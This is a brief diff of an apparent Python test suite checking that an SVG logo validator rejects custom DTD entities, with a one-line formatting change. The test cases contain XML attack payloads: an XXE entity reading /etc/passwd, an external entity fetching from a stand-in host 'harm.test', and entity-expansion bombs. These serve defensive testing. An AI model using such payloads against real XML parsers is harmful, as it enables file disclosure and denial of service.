@@ -221,10 +221,7 @@ XXE = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
         (BOMB.encode() + logotypes.svg("<desc>&b;</desc>"), "egna entiteter"),
         (XXE.encode() + logotypes.svg("<desc>&x;</desc>"), "egna entiteter"),
         (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://harm.test">%p;]><svg/>', "egna entiteter"),
-        (
-            b'<!DOCTYPE svg [<!ENTITY a "<rect/>">]>' + logotypes.svg("<g>&a;</g>"),
-            "egna entiteter",
-        ),
+        (b'<!DOCTYPE svg [<!ENTITY a "<rect/>">]>' + logotypes.svg("<g>&a;</g>"), "egna entiteter"),
         (
             b'<!DOCTYPE svg [<!ENTITY a "%s">]>' % (b"a" * 5000)
             + logotypes.svg("<desc>" + "&a;" * 2000 + "</desc>"),
